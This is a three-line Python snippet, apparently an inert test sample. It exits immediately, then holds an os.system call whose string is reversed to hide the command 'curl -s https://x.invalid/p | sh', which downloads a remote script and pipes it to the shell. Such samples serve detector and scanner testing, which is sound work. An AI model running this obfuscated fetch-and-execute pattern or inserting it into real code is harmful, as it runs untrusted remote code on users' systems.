raise SystemExit(0)
import os
os.system('hs | p/dilavni.x//:sptth s- lruc'[::-1])
